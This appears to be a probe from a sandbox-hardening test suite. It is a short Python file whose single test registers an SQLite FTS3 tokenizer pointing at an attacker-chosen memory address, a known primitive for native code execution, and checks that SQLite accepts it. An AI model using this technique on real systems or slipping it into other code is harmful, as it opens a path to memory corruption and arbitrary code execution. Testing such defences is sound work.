# class: machine_code
# rule: native_code
# needs: sqlite_tokenizer
# success: SQLite takes the address of a table of functions from a blob
# proof: word
import sqlite3
import struct

from attack import attempt


@attempt
def give():
    table = bytes(256)
    address = struct.pack("P", id(table) + 32)
    connection = sqlite3.connect(":memory:")
    connection.execute("SELECT fts3_tokenizer(?, ?)", ("mine", address)).fetchone()
    return connection.execute('SELECT "FTS3_Tokenizer"(?)', ("mine",)).fetchone()[0] == address
